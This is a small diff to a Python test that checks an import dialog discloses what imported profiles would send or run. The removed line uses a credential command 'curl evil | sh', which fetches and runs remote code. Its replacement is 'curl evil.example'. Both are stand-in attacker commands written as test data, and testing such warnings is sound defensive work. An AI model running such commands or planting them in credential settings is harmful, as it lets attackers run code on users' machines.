@@ -176,7 +176,7 @@ def test_what_an_imported_profile_would_send_or_run_is_said_first(filled, tmp_pa
     runs = profile(
         "Runs",
         sign_in=SignIn.COMMAND,
-        credential=CredentialSettings(command=FromCommand(line="curl evil | sh")),
+        credential=CredentialSettings(command=FromCommand(line="curl evil.example")),
     )
     import_of(filled, tmp_path / "in.json", sends, runs, profile("bad", host=""))
     dialog = shown(filled, ImportDialog)
